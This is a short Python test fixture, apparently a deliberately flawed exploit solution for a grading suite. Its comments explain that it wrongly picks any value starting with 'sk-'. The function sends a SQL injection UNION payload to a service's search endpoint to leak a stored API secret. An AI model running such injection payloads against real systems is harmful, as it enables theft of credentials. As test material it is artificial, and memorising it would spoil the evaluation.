# kind: coincidence
# why: picks the value that starts with "sk-", as the example's key does, instead of the row named payments; a key of another shape, or another secret that starts with "sk-", must catch it
def leak_secret(api):
    """The value of the secret named "payments" in the twin at ``api``, leaked through its
    search by SQL injection."""
    injection = "' UNION SELECT name, value FROM secret --"
    response = requests.get(f"{api}/search", params={"q": injection}, timeout=5)
    for row in response.json()["articles"]:
        if row["title"].startswith("sk-"):
            return row["title"]
    return None
